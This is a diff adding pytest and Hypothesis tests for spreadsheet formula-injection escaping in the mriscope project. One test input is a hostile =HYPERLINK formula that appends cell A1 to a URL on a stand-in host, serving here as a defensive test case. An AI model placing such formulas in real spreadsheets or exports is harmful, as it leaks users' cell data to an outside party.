@@ -1,7 +1,9 @@
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from mriscope.errors import WriteError
-from mriscope.files import remove_unfinished, replacing, write_text
+from mriscope.files import read_safe_cell, remove_unfinished, replacing, spreadsheet_safe, write_text
 
 
 def test_a_file_is_replaced_whole(tmp_path):
@@ -42,3 +44,35 @@ def test_what_killed_writers_left_is_removed(tmp_path):
     (tmp_path / "b.txt").write_text("whole")
     remove_unfinished(tmp_path)
     assert [one.name for one in tmp_path.iterdir()] == ["b.txt"]
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ('=HYPERLINK("http://a.b/?"&A1,"c")', '\'=HYPERLINK("http://a.b/?"&A1,"c")'),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("\N{FULLWIDTH EQUALS SIGN}1", "'\N{FULLWIDTH EQUALS SIGN}1"),
+        ("'=1", "''=1"),
+        ("'a.png", "'a.png"),
+        ("train/=1.png", "train/=1.png"),
+        ("", ""),
+    ],
+)
+def test_no_cell_is_a_formula(text, cell):
+    assert spreadsheet_safe(text) == cell
+    assert read_safe_cell(cell) == text
+
+
+def test_numbers_are_no_formulas():
+    assert [spreadsheet_safe(value) for value in (-1, -0.5, None)] == [-1, -0.5, None]
+
+
+@given(st.text("'=+-@\t\r\na\uff1d", max_size=5))
+def test_every_text_is_read_back(text):
+    cell = spreadsheet_safe(text)
+    assert read_safe_cell(cell) == text
+    assert cell[:1] not in tuple("=+-@\t\r\n\uff1d")
